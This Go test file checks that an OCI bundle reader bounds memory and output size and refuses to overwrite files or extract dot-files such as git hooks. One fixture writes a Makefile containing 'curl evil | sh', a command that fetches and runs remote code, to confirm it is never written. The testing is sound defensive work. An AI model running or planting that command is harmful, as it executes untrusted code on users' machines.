package bundle

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/types"
)

// hostile writes a bundle with these blobs, and with these entries in its index.
func hostile(t *testing.T, entries []v1.Descriptor, blobs ...[]byte) string {
	t.Helper()
	index, err := json.Marshal(v1.IndexManifest{SchemaVersion: 2, MediaType: types.OCIImageIndex, Manifests: entries})
	must(t, err)
	return hostileIndex(t, index, blobs...)
}

func hostileIndex(t *testing.T, index []byte, blobs ...[]byte) string {
	t.Helper()
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, filepath.FromSlash(blobsDir)), 0o700))
	must(t, os.WriteFile(filepath.Join(dir, layoutFile), []byte(layoutContent), 0o600))
	must(t, os.WriteFile(filepath.Join(dir, indexFile), index, 0o600))
	for _, blob := range blobs {
		must(t, os.WriteFile(filepath.Join(dir, filepath.FromSlash(blobPath(describe(blob).Digest))), blob, 0o600))
	}
	return dir
}

// entry returns the index entry of a manifest: of an image with this name, or of files if the name is empty.
func entry(manifest []byte, ref string) v1.Descriptor {
	d := describe(manifest)
	d.MediaType = types.OCIManifestSchema1
	if ref == "" {
		d.ArtifactType = FilesArtifactType
	} else {
		d.Annotations = map[string]string{annotationImageName: ref}
	}
	return d
}

// A few kilobytes, or one blob under many names, must not cost the reader of a bundle noticeable memory or time.
func TestOpenIsBounded(t *testing.T) {
	empty := []byte(emptyConfig)
	config := describe(empty)
	image := func(layers string) []byte {
		return fmt.Appendf(nil, `{"config":{"digest":%q,"size":2},"layers":[%s]}`, config.Digest, layers)
	}
	layer := fmt.Sprintf(`{"digest":%q,"size":2}`, config.Digest)
	large := image(strings.TrimSuffix(strings.Repeat(layer+",", 900), ",") + strings.Repeat(" ", 3<<20))
	var often []v1.Descriptor
	for i := range 2_000 {
		often = append(often, entry(large, fmt.Sprintf("registry.example.com/a:v%d", i)))
	}
	empties := image(strings.TrimSuffix(strings.Repeat("{},", 1<<20), ","))
	layers := image(strings.TrimSuffix(strings.Repeat(layer+",", maxLayers+1), ","))
	var wrong []v1.Descriptor
	for range 9_000 {
		wrong = append(wrong, v1.Descriptor{MediaType: "text/plain", Digest: config.Digest})
	}
	for name, tc := range map[string]struct{ dir, want string }{
		"one manifest under many names": {hostile(t, often, large, empty), "larger than"},
		"an index of empty entries": {
			hostileIndex(t, []byte(`{"manifests":[`+strings.TrimSuffix(strings.Repeat("{},", 2<<20), ",")+`]}`)),
			"more than",
		},
		"a manifest of empty layers":     {hostile(t, []v1.Descriptor{entry(empties, refApp)}, empties, empty), "more than"},
		"files of empty entries":         {hostile(t, []v1.Descriptor{entry(empties, "")}, empties, empty), "more than"},
		"one layer a thousand times":     {hostile(t, []v1.Descriptor{entry(layers, refApp)}, layers, empty), "more than 1000 layers"},
		"an index of which all is wrong": {hostile(t, wrong), "and 8980 more"},
		"a list that is none":            {hostileIndex(t, []byte(`{"manifests":{}}`)), "expected a list"},
	} {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			_, err := Open(t.Context(), tc.dir)
			runtime.ReadMemStats(&after)
			if err == nil || !strings.Contains(err.Error(), tc.want) || len(err.Error()) > 10_000 {
				t.Errorf("error %.300v, want %q", err, tc.want)
			}
			if took := (after.TotalAlloc - before.TotalAlloc) >> 20; took > 200 {
				t.Errorf("it took %d MiB", took)
			}
		})
	}
}

// The size of the written files is bounded, even if a list of files gives one blob a thousand names.
func TestWriteFilesIsBounded(t *testing.T) {
	blob := bytes.Repeat([]byte("x"), 2<<20)
	d := describe(blob)
	var names []string
	for i := range maxWritten/len(blob) + 1 {
		names = append(names, fmt.Sprintf(`{"digest":%q,"size":%d,"annotations":{%q:"providers/x/v1.0.%d/c.yaml"}}`, d.Digest,
			d.Size, annotationTitle, i))
	}
	files := fmt.Appendf(nil, `{"config":{"digest":%q,"size":2},"layers":[%s]}`, describe([]byte(emptyConfig)).Digest,
		strings.Join(names, ","))
	b := openBundle(t, hostile(t, []v1.Descriptor{entry(files, "")}, files, blob, []byte(emptyConfig)))
	to := filepath.Join(t.TempDir(), "to")
	if err := b.WriteFiles(t.Context(), to, "providers"); err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("all: %v", err)
	}
	if _, err := os.Stat(to); !os.IsNotExist(err) {
		t.Errorf("something was written: %v", err)
	}
	must(t, b.WriteFiles(t.Context(), to, "providers/x/v1.0.7"))
}

// A bundle chooses the names of its files, and may be extracted to somebody's working folder. WriteFiles replaces no file there, and writes
// no file that a tool would run.
func TestWriteFilesReplacesNothing(t *testing.T) {
	listing := func(name string, content []byte) string {
		d := describe(content)
		return fmt.Sprintf(`{"digest":%q,"size":%d,"annotations":{%q:%q}}`, d.Digest, d.Size, annotationTitle, name)
	}
	empty := []byte(emptyConfig)
	files := func(list ...string) []byte {
		return fmt.Appendf(nil, `{"config":{"digest":%q,"size":2},"layers":[%s]}`, describe(empty).Digest, strings.Join(list, ","))
	}
	for _, name := range []string{".git/config", ".envrc", "charts/.git/hooks/pre-commit", "a/.b"} {
		m := files(listing(name, empty))
		if _, err := Open(t.Context(), hostile(t, []v1.Descriptor{entry(m, "")}, m, empty)); err == nil || !strings.Contains(err.Error(), "dot") {
			t.Errorf("%s: %v", name, err)
		}
	}
	evil := []byte("all: ; curl evil | sh")
	m := files(listing("Makefile", evil), listing("charts/a-1.tgz", empty))
	b := openBundle(t, hostile(t, []v1.Descriptor{entry(m, "")}, m, evil, empty))
	for name, prepare := range map[string]func(work string) error{
		"a file": func(work string) error {
			return os.WriteFile(filepath.Join(work, "Makefile"), []byte("all: build"), 0o600)
		},
		"one of the same size": func(work string) error {
			return os.WriteFile(filepath.Join(work, "Makefile"), bytes.ToUpper(evil), 0o600)
		},
		"a folder":                func(work string) error { return os.Mkdir(filepath.Join(work, "Makefile"), 0o700) },
		"a link":                  func(work string) error { return os.Symlink("mine", filepath.Join(work, "Makefile")) },
		"an empty file":           func(work string) error { return os.WriteFile(filepath.Join(work, "Makefile"), nil, 0o600) },
		"a link to the same file": func(work string) error { return os.Symlink(filepath.Join(work, "x"), filepath.Join(work, "Makefile")) },
	} {
		work := t.TempDir()
		must(t, prepare(work))
		before, err := os.Lstat(filepath.Join(work, "Makefile"))
		must(t, err)
		if err := b.WriteFiles(t.Context(), work, ""); !errors.Is(err, fs.ErrExist) || !strings.Contains(err.Error(), "Makefile") {
			t.Errorf("%s: %v", name, err)
		}
		after, err := os.Lstat(filepath.Join(work, "Makefile"))
		if err != nil || !os.SameFile(before, after) {
			t.Errorf("%s: it was replaced (%v)", name, err)
		}
		if _, err := os.Stat(filepath.Join(work, "charts")); err == nil {
			t.Errorf("%s: something was written", name)
		}
	}
	work := t.TempDir()
	for range 2 { // the second run finds all files
		must(t, b.WriteFiles(t.Context(), work, ""))
	}
}

// A registry can claim any length for an image's config, and send that much. Fill does not pull such a config.
func TestFillIsBounded(t *testing.T) {
	t.Setenv("DOCKER_CONFIG", t.TempDir())
	t.Setenv("REGISTRY_AUTH_FILE", filepath.Join(t.TempDir(), "none"))
	digest := describe([]byte(emptyConfig)).Digest
	layers := strings.TrimSuffix(strings.Repeat(fmt.Sprintf(`{"mediaType":%q,"digest":%q,"size":2},`, types.OCILayer, digest), maxLayers+1),
		",")
	for name, tc := range map[string]struct {
		size         int64
		layers, want string
	}{
		"an endless config": {1 << 40, "", "more than an image needs"},
		"many layers":       {2, layers, "more than 1000 layers"},
	} {
		t.Run(name, func(t *testing.T) {
			var sent atomic.Int64
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch {
				case strings.Contains(r.URL.Path, "/manifests/"):
					w.Header().Set("Content-Type", string(types.OCIManifestSchema1))
					_, _ = fmt.Fprintf(w, `{"schemaVersion":2,"mediaType":%q,"config":{"mediaType":%q,"digest":%q,"size":%d},"layers":[%s]}`,
						types.OCIManifestSchema1, types.OCIConfigJSON, digest, tc.size, tc.layers)
				case strings.Contains(r.URL.Path, "/blobs/"):
					for part := bytes.Repeat([]byte(" "), 1<<20); sent.Load() < 256<<20; {
						n, err := w.Write(part)
						if sent.Add(int64(n)); err != nil {
							return
						}
					}
				}
			}))
			defer server.Close()
			err := fill(t.Context(), t, filepath.Join(t.TempDir(), "bundle"),
				Sources{Images: []string{strings.TrimPrefix(server.URL, "http://") + "/team/app:v1"}})
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %v", err)
			}
			if n := sent.Load(); n > 0 {
				t.Errorf("%d MiB were taken", n>>20)
			}
		})
	}
}
